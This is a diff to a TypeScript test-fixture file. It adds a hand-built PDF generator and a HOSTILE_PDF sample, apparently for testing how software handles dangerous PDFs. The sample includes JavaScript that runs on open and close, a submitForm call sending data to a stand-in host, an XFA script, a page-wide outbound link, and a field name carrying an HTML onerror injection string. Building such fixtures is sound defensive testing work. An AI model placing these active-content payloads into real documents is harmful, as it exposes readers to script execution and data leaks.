@@ -130,3 +130,50 @@ export const clinicalDocument = (narrative = ""): Bytes =>
     </text></section></component>
   </structuredBody></component>
 </ClinicalDocument>`);
+
+/**
+ * A PDF with these pages, each a stream of drawing. Without a table of objects: readers find the objects themselves. `catalog` and `pages`
+ * add entries to those dictionaries, `objects` stand beside them from number 100 on.
+ */
+export function pdf(
+  pages: readonly string[],
+  {
+    mediaBox = "0 0 420 595",
+    catalog = "",
+    page = "",
+    objects = [],
+  }: { mediaBox?: string; catalog?: string; page?: string; objects?: readonly string[] } = {},
+): Bytes {
+  const kids = pages.map((_, index) => `${10 + 2 * index} 0 R`).join(" ");
+  return utf8(
+    [
+      "%PDF-1.7",
+      `1 0 obj << /Type /Catalog /Pages 2 0 R ${catalog} >> endobj`,
+      `2 0 obj << /Type /Pages /Kids [${kids}] /Count ${pages.length} >> endobj`,
+      "3 0 obj << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> endobj",
+      ...pages.flatMap((drawing, index) => [
+        `${10 + 2 * index} 0 obj << /Type /Page /Parent 2 0 R /MediaBox [${mediaBox}] /Resources << /Font << /F 3 0 R >> >> /Contents ${11 + 2 * index} 0 R ${page} >> endobj`,
+        `${11 + 2 * index} 0 obj << /Length ${drawing.length} >> stream\n${drawing}\nendstream endobj`,
+      ]),
+      ...objects.map((object, index) => `${100 + index} 0 obj ${object} endobj`),
+      "trailer << /Root 1 0 R >>",
+      "%%EOF",
+    ].join("\n"),
+  );
+}
+
+export const pdfText = (...lines: readonly string[]): string =>
+  `BT /F 16 Tf 40 540 Td 22 TL ${lines.map((line) => `(${line}) Tj T*`).join(" ")} ET`;
+
+/** What a PDF can do to whoever follows it: scripts at opening, links, forms, files within, programs to start. */
+export const HOSTILE_PDF = pdf([pdfText("A page that wants more")], {
+  catalog:
+    "/OpenAction 100 0 R /AA << /WC 100 0 R >> /Names << /JavaScript << /Names [(a) 100 0 R] >> >> /AcroForm 101 0 R",
+  page: "/Annots [102 0 R 103 0 R] /AA << /O 100 0 R >>",
+  objects: [
+    "<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('https://elsewhere.example'\\);) >>",
+    "<< /XFA (<xdp><script>document.title='owned'</script></xdp>) /Fields [103 0 R] >>",
+    "<< /Type /Annot /Subtype /Link /Rect [0 0 420 595] /A << /S /URI /URI (https://elsewhere.example) >> >>",
+    "<< /Type /Annot /Subtype /Widget /FT /Tx /T (<img src=x onerror=alert\\(1\\)>) /Rect [10 10 90 90] /AA << /K 100 0 R >> >>",
+  ],
+});
